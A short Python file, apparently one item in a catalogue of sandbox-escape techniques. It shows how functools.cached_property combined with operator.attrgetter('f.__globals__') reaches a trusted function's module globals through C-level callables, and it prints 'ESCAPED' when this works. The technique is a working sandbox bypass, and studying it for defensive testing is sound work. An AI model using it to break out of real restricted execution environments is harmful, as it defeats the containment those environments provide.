# technique: functools.cached_property(attrgetter) keeps what trusted code reads
# goal: globals
# source: own analysis: attacker's C callables below a trusted frame
import functools
import operator
import textwrap


class Box:
    def __init__(self, f):
        self.f = f
    g = functools.cached_property(operator.attrgetter('f.__globals__'))


box = Box(textwrap.dedent)
if '__builtins__' in box.g:
    print('ESCAPED globals of textwrap')
